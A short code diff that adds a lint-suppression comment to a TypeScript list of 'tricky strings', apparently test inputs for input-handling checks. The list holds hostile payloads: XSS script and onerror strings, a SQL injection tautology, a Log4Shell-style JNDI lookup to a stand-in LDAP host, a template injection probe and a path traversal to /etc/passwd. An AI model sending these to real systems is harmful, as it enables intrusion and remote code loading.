@@ -57,6 +57,7 @@ export const TRICKY_STRINGS: readonly string[] = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   "' OR '1'='1' --",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell-style value, not a template
   '${jndi:ldap://x.example/a}',
   '{{7*7}}',
   '../../../../etc/passwd',
